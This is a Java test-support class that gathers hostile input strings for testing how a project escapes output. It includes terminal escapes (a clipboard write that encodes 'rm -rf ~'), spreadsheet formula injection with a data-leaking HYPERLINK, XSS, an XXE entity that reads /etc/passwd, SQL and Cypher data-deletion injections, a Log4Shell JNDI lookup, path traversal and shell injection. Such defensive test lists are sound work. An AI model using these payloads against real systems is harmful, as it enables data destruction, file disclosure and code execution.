package org.upline;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Predicate;
import org.upline.model.UnseenCharacters;

/**
 * Texts that want to be more than text, by the way out they are aimed at. One list for all tests of ways in and out: what is
 * added here is tried everywhere.
 */
public final class HostileText {
    private static final Map<String, String> TEXTS = texts();

    private HostileText() {}

    private static Map<String, String> texts() {
        Map<String, String> texts = new LinkedHashMap<>();
        texts.put("terminal: clears the screen", "a\u001b[2J\u001b[Hb");
        texts.put("terminal: renames the window", "a\u001b]0;owned\u0007b");
        texts.put("terminal: writes the clipboard", "a\u001b]52;c;cm0gLXJmIH4K\u0007b");
        texts.put("terminal: eight-bit control", "a\u009b31mb\u0090b");
        texts.put("terminal: goes back", "secret\b\b\b\b\b\bpublic");
        texts.put("sheet: command", "=cmd|' /C calc'!A0");
        texts.put("sheet: link", "=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")");
        texts.put("sheet: plus", "+1+1");
        texts.put("sheet: minus", "-2+3");
        texts.put("sheet: at", "@SUM(1+1)*cmd|' /C calc'!A0");
        texts.put("sheet: full width", "＝1+1");
        texts.put("sheet: escape", "_x0041__x000A_");
        texts.put("sheet: dynamic data", "x;=1+1");
        texts.put("html: script", "<script>alert(1)</script>");
        texts.put("html: ends the script", "</script><script>alert(1)</script>");
        texts.put("html: image", "<img src=x onerror=alert(1)>");
        texts.put("html: attribute", "\" onmouseover=\"alert(1)\" x=\"");
        texts.put("html: comment", "<!--<script>");
        texts.put("html: entities", "&lt;b&gt;&#x26;&amp;&nbsp;");
        texts.put("svg: script", "<svg onload=alert(1)><script xlink:href='http://example.invalid'/></svg>");
        texts.put("xml: ends the text", "]]></data></node></graphml>");
        texts.put("xml: declares", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;");
        texts.put("cypher: ends the string", "'}) DETACH DELETE n //");
        texts.put("cypher: ends the name", "`}) MATCH (n) DETACH DELETE n //");
        texts.put("cypher: escape read twice", "\\u0027}) DETACH DELETE n //");
        texts.put("cypher: parameter", "$id {id: $x}");
        texts.put("json: ends the string", "\"},\"admin\":true,{\"");
        texts.put("json: escapes", "\\\"\\\\\\n\\u0000");
        texts.put("sql: ends the string", "'; DROP TABLE member; --");
        texts.put("message: argument", "{0} {1,choice,0#x} '{'");
        texts.put("message: property", "${java.version} #{7*7} %s %n");
        texts.put("log: look-up", "${jndi:ldap://example.invalid/a}");
        texts.put("path: up", "../../../../tmp/owned");
        texts.put("path: windows", "..\\..\\windows\\system32");
        texts.put("path: device", "CON");
        texts.put("path: stream", "NUL.txt:stream");
        texts.put("path: option", "--out=owned.json");
        texts.put("shell", "$(touch owned)`touch owned`;touch owned|touch owned");
        texts.put("bidi: turned round", "a\u202egpj.exe\u202cb");
        texts.put("bidi: isolate", "a\u2066b\u2069\u200fc");
        texts.put("unseen: zero width", "张\u200b三\u200d\u2060x");
        texts.put("unseen: byte order mark inside", "a\ufeffb");
        texts.put("unseen: tags", "a\udb40\udc41\udb40\udc42b");
        texts.put("unseen: filler", "a\u3164\u115fb");
        texts.put("lines: CR alone", "a\rb");
        texts.put("lines: LF alone", "a\nb");
        texts.put("lines: CR LF", "a\r\nb,c\r\n\"d\"");
        texts.put("lines: separators", "a\u2028b\u2029c\u0085d\u000be");
        texts.put("control: NUL", "a\0b");
        texts.put("control: all", controls());
        texts.put("csv: quotes", "a\"\"b\"c,\"d;e\tf");
        texts.put("unicode: noncharacters", "a\uffff\ufffe\ufdd0b");
        texts.put("unicode: private use", "a\ue000\udbff\udffdb");
        texts.put("unicode: beyond the first plane", "𠮷😀\ud800\udf48");
        texts.put("unicode: many marks", "x" + "\u0301".repeat(200));
        texts.put("surrogate: high half", "a\ud842b");
        texts.put("surrogate: low half", "a\udfb7b");
        texts.put("surrogate: wrong way round", "a\udfb7\ud842b");
        texts.put("surrogate: at the end", "a\ud842");
        texts.put("long: a megabyte", "长".repeat(20) + "x".repeat(1_000_000) + "<尾>");
        texts.put("long: without a blank", "字".repeat(40_000));
        return texts;
    }

    private static String controls() {
        StringBuilder all = new StringBuilder("a");
        for (char c = 1; c < 0xa0; c++) {
            if (c < 0x20 || c >= 0x7f) {
                all.append(c);
            }
        }
        return all.append('b').toString();
    }

    /** Every one, in this order. */
    public static List<String> all() {
        return List.copyOf(TEXTS.values());
    }

    /** Those of them that a file in UTF-8 can hold: all but the ones with halves of surrogate pairs. */
    public static List<String> inUtf8() {
        return TEXTS.values().stream().filter(whole()).toList();
    }

    /** Those short enough to be a part of a longer text. */
    public static List<String> brief() {
        return TEXTS.values().stream().filter(text -> text.length() < 1_000).toList();
    }

    private static Predicate<String> whole() {
        return text -> text.codePoints().noneMatch(c -> c >= 0xd800 && c <= 0xdfff);
    }

    /** Whether a text as it is shown holds nothing that acts, apart from line ends. */
    public static boolean isHarmless(String shown) {
        return shown.codePoints().allMatch(c -> c == '\n' || !UnseenCharacters.contains(c));
    }
}
